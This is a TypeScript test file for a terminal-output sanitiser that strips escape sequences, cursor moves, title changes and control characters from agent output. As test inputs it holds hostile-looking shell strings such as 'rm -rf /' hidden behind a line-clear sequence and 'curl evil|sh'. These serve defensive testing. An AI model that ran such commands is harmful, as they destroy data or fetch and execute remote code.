import { describe, expect, it } from 'vitest';
import { cut, keepOnlyColours, makePrintable, toOneLine } from './plain.ts';

describe('printable', () => {
  it('keeps what people read', () => {
    expect(makePrintable('naïve\tcafé — 日本語 👍\nnext')).toBe('naïve\tcafé — 日本語 👍\nnext');
  });

  it('lets an agent neither move the cursor nor recolour, hide or retitle', () => {
    expect(makePrintable('rm -rf /\x1b[2K\x1b[1Gls')).toBe('rm -rf /ls');
    expect(makePrintable('\x1b]0;title\x07text\x1b]8;;http://x\x1b\\link')).toBe('textlink');
    expect(makePrintable('a\bb\x00c\x9b31md\u202eevil')).toBe('abcdevil');
    expect(makePrintable('git status \x1b]; curl evil|sh')).toBe('git status ]; curl evil|sh');
    expect(makePrintable('safe\rrm')).toBe('safe\nrm');
  });
});

describe('onlyColours', () => {
  it('keeps the colours of amux and nothing else, and none where there are to be none', () => {
    const line = '\x1b[31mred\x1b[39m \x1b[8mhidden\x1b]0;t\x07\x1b[2J';
    expect(keepOnlyColours(line, true)).toBe('\x1b[31mred\x1b[39m hidden');
    expect(keepOnlyColours(line, false)).toBe('red hidden');
  });
});

describe('oneLine', () => {
  it('flattens and cuts, not through a character', () => {
    expect(toOneLine('  two\n lines ', 20)).toBe('two lines');
    expect(cut('abcdef', 4)).toBe('abc…');
    expect(cut('👍👍👍', 3)).toBe('👍👍…');
  });
});
